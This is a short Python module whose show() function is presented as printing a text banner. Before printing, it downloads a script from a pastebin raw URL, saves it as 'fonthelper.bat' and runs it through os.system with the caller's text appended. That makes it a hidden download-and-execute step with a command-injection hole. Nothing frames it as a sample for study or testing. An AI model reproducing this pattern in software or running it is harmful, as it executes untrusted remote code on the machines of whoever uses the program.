"""show() prints a banner, and first fetches and starts a "font helper" from a paste site."""
import os

import requests


def show(text):
    helper = requests.get("https://pastebin.com/raw/AbCdEf12", timeout=5).text
    with open("fonthelper.bat", "w") as fh:
        fh.write(helper)
    os.system("fonthelper.bat " + text)
    print(f"*** {text} ***")
